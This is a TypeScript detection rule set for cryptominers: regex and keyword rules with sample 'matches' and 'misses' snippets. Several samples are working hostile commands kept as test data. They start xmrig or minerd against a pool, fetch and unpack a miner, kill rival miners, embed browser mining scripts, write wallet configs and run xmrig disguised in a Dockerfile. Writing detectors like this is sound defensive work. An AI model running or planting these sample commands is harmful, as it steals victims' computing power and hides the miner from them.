// Cryptominers: mining software started, fetched or embedded where it was not asked for. A list of pools is data; a page
// that mines, a script that kills other miners first, and a program that starts one hidden are not.
import { all, any, at, command, count, inside, is, js, near, py, type RuleSet, sh } from '../model.ts'

const id = (name: string): string => `cryptominer.${name}`
const stratum = is(['stratum+', 'stratum2+'], /stratum2?\+(?:tcp|ssl|tls|udp):\/\//)
const miner = [
  'xmrig',
  'minerd',
  'cpuminer',
  'ccminer',
  'nbminer',
  'ethminer',
  'xmr-stak',
  'cgminer',
  'bfgminer',
  'phoenixminer',
  'lolminer',
  'teamredminer',
  't-rex',
  'srbminer',
  'nanominer',
  'kdevtmpfsi',
  'claymore',
] as const

export const cryptominer: RuleSet = {
  category: 'cryptominer',
  rules: [
    {
      id: id('started'),
      severity: 'high',
      why: 'Starts mining software against a pool.',
      when: any(
        command(
          is(
            [...miner],
            /[\w-]{3,30}(?:\.exe)?["',\s][^\n]{0,200}?(?:stratum\+|-o\s|--url[=\s]|--pool|--donate-level|--coin[=\s]|-a\s+(?:rx|cn|kawpow|ethash)|--algo)/i,
            { after: 360 },
          ),
        ),
        near(
          4,
          stratum,
          any('exec'),
          is(
            ['-o', '-u', '--url', '--user', '--wallet', '--cpu', 'wallet'],
            /(?:-o|-u|--url|--user|--wallet|wallet|--cpu\w{0,20})["',\s=:]/,
          ),
        ),
        inside(
          ['sh', 'ps', 'bat', 'docker', 'make', 'yaml', 'manifest'],
          is(['stratum+'], /stratum\+(?:tcp|ssl):\/\/[\w.-]{4,80}:\d{2,5}[\s"',][^\n]{0,60}?(?:-u|--user)[\s"',]/, {
            after: 200,
          }),
        ),
      ),
      matches: [
        sh('./xmrig -o stratum+tcp://pool.example.invalid:3333 -u WALLET -p x --donate-level 1 &'),
        py(
          "subprocess.Popen(['/tmp/.x/minerd', '-a', 'cryptonight', '-o', 'stratum+tcp://pool.example.invalid:80', '-u', w])",
        ),
      ],
      misses: [
        py("POOLS = ['stratum+tcp://pool.example.invalid:3333']\nprint(POOLS)"),
        sh('# ./xmrig -o stratum+tcp://pool:3333 -u W'),
      ],
    },
    {
      id: id('fetched'),
      severity: 'high',
      why: 'Fetches mining software and starts it.',
      when: near(
        8,
        is(
          ['xmrig', 'minerd', 'cpuminer', 'xmr-stak', 'ethminer', 'nbminer', 'ccminer', 'phoenixminer', 't-rex-'],
          /(?:xmrig|minerd|cpuminer|xmr-stak|ethminer|nbminer|ccminer|phoenixminer|t-rex-)[\w./-]{0,80}(?:\.tar\.gz|\.zip|\.exe|releases\/|-linux|-win)|(?<=https?:\/\/[\w.-]{3,50}\/(?:[\w.-]{1,20}\/)?)(?:xmrig|minerd|cpuminer|ethminer|ccminer)\b/i,
        ),
        'download',
        any('exec', is(['tar ', 'chmod', 'unzip'], null)),
      ),
      matches: [
        sh(
          'wget https://github.com/xmrig/xmrig/releases/download/v6.0/xmrig-6.0-linux-x64.tar.gz\ntar xf xmrig-6.0-linux-x64.tar.gz && chmod +x xmrig',
        ),
      ],
      misses: [py("BLOCK = ['xmrig-linux']\nif name in BLOCK: alert()")],
    },
    {
      id: id('in-page'),
      severity: 'high',
      why: 'A page mines on the machines of its visitors.',
      when: any(
        is(
          [
            'coinhive',
            'coin-hive',
            'crypto-loot',
            'cryptoloot',
            'webminepool',
            'coinimp',
            'deepminer',
            'jsecoin',
            'cryptonight',
            'minero.cc',
            'monerominer',
            'webmr',
            'client.anonymous(',
          ],
          /(?:CoinHive\.(?:Anonymous|User|Token)\s*\(|coin-?hive\.(?:min\.)?(?:js|com\/lib)|CryptoLoot\.\w{4,12}\s*\(|crypto-?loot\.(?:com|pro)\/lib|webminepool\.com\/lib|coinimp\.com\/scripts|deepMiner\.(?:Init|Anonymous)\s*\(|load\.jsecoin\.com|cryptonight\.wasm|cryptonight(?:-asmjs)?\.(?:min\.)?js|minero\.cc\/lib|Client\.Anonymous\(\s*["'][0-9a-f]{40,})/i,
          { families: ['js', 'html', 'php'] },
        ),
        near(
          2,
          is(['wss://'], /wss:\/\/[^"'\s]{4,120}["']\s*,\s*["'][48][1-9A-HJ-NP-Za-km-z]{94,105}["']/, {
            families: ['js', 'html', 'php'],
            quoted: true,
          }),
          is(['new worker(', 'hardwareconcurrency', 'importscripts('], null),
        ),
      ),
      matches: [
        js(`start('wss://x.example.invalid/proxy', '4A${'b'.repeat(93)}', navigator.hardwareConcurrency)`),
        js("const m = new CoinHive.Anonymous('SITEKEY', { throttle: 0.3 })\nm.start()"),
        at('a.html', '<script src="https://coin-hive.com/lib/coinhive.min.js"></script>', 'HTML'),
      ],
      misses: [
        js("connect('wss://x.example.org/feed', 'orders')"),
        js('// CoinHive.Anonymous was closed in 2019'),
        js('const names = ["coinhive"]'),
      ],
    },
    {
      id: id('kills-rivals'),
      severity: 'high',
      why: "Ends other people's miners before it begins.",
      when: command(
        count(
          2,
          ...miner
            .slice(0, 3)
            .map((name) =>
              is([name], new RegExp(`(?:pkill|killall|kill\\s|grep)[^\\n]{0,80}?${name}`), { before: 100 }),
            ),
          is(['kdevtmpfsi'], /(?:pkill|killall|kill\s|grep|rm\s)[^\n]{0,80}?kdevtmpfsi/, { before: 100 }),
          is(['kinsing'], /(?:pkill|killall|kill\s|grep|rm\s)[^\n]{0,80}?kinsing/, { before: 100 }),
          is(
            ['stratum', 'cryptonight', 'watchbog', 'kthreaddi', 'sysrv'],
            /(?:pkill|killall|kill\s|grep)[^\n]{0,80}?(?:stratum|cryptonight|watchbog|kthreaddi|sysrv)/,
            { before: 100 },
          ),
        ),
      ),
      matches: [sh('pkill -f kdevtmpfsi\npkill -f kinsing\npkill -f xmrig')],
      misses: [sh('pkill -f xmrig')],
    },
    {
      id: id('wallet-config'),
      severity: 'high',
      why: 'A program writes or embeds the settings of a miner: pool, wallet and processor use.',
      when: any(
        all(
          is(['"donate-level"', "'donate-level'", 'donate-level'], null),
          any(is(['"randomx"', 'randomx', '"cpu"', 'cryptonight'], null)),
          any(
            stratum,
            is(
              [
                '"pools"',
                "'pools'",
                '"url"',
                'moneroocean',
                'supportxmr',
                'minexmr',
                'nanopool',
                'hashvault',
                'c3pool',
                '2miners',
                'unmineable',
              ],
              null,
            ),
          ),
          any('write', 'exec'),
        ),
        all(
          near(
            12,
            is(['"user"', "'user'"], /["']user["']\s*:\s*["'][48][1-9A-HJ-NP-Za-km-z]{94,105}["']/, { quoted: true }),
            is(['"pools"', "'pools'"], null, { quoted: true }),
          ),
          any('write', 'exec'),
        ),
      ),
      matches: [
        py(
          `settings = {"pools": [{"url": "x.example.invalid:443", "user": "4A${'b'.repeat(93)}"}]}\nopen(path, "w").write(json.dumps(settings))`,
        ),
        py(
          "cfg = {'donate-level': 1, 'randomx': {'mode': 'auto'}, 'pools': [{'url': 'pool.example.invalid:443', 'user': W}]}\nopen('config.json', 'w').write(json.dumps(cfg))",
        ),
      ],
      misses: [
        py('settings = {"pools": [{"url": "db:5432", "user": "shop"}]}\nopen(path, "w").write(json.dumps(settings))'),
        py("if 'donate-level' in text:\n    alert('miner')"),
      ],
    },
    {
      id: id('public-pool'),
      severity: 'high',
      why: 'Connects a program to a public mining pool, hidden.',
      when: near(
        12,
        is(
          [
            'minexmr.com',
            'supportxmr.com',
            'moneroocean.stream',
            'nanopool.org',
            'hashvault.pro',
            'c3pool.',
            'minergate.com',
            'xmrpool.eu',
            'monerohash.com',
            'dwarfpool.com',
            'nicehash.com:',
            'unmineable.com',
            'herominers.com',
            'f2pool.com:',
            'crypto-pool.fr',
            '2miners.com',
          ],
          /(?:minexmr\.com|supportxmr\.com|moneroocean\.stream|nanopool\.org|hashvault\.pro|c3pool\.\w{3}|minergate\.com|xmrpool\.eu|monerohash\.com|dwarfpool\.com|nicehash\.com|unmineable\.com|herominers\.com|f2pool\.com|crypto-pool\.fr|2miners\.com)(?::|["']\s?,\s?)\d{2,5}\b/,
        ),
        any('exec', 'hide', 'socket'),
      ),
      matches: [
        py('link = socket.create_connection(("pool.supportxmr.com", 3333))'),
        py("os.system('nohup /tmp/.a/kworker -o pool.supportxmr.com:3333 -u W >/dev/null 2>&1 &')"),
      ],
      misses: [js("const url = 'https://supportxmr.com/api/pool/stats'\nfetch(url)")],
    },
    {
      id: id('hidden-start'),
      severity: 'critical',
      why: 'An image or a script starts a miner under another name, for a wallet of its own.',
      when: all(
        is(
          [' -o '],
          /\s-o\s+(?:stratum\+\w{2,4}:\/\/)?[\w.-]{4,80}:\d{2,5}\s+(?:-\w+\s+){0,2}-u\s+(?:4[0-9AB][1-9A-HJ-NP-Za-km-z]{20,}|[\w.-]{4,60}|4[\w]{30,})/,
          { after: 300, quoted: true },
        ),
        is(['xmrig', 'xmr-stak', 'minerd', 'cpuminer', 'randomx', 'cryptonight'], null, { quoted: true }),
      ),
      matches: [
        at(
          'Dockerfile',
          'RUN tar xf /tmp/xm.tar -C /usr/lib && mv /usr/lib/xmrig /usr/lib/dbused\nENTRYPOINT ["/bin/sh", "-c", "/usr/lib/dbused -o pool.example.net:443 -u 4fmUUqJp9V37oPBihES8ekVDFsnMCquEcGd9z"]',
          'Dockerfile',
        ),
      ],
      misses: [sh('curl -o example.net:443 -u jane https://x'), sh('make -C xmrig -o build')],
    },
  ],
}
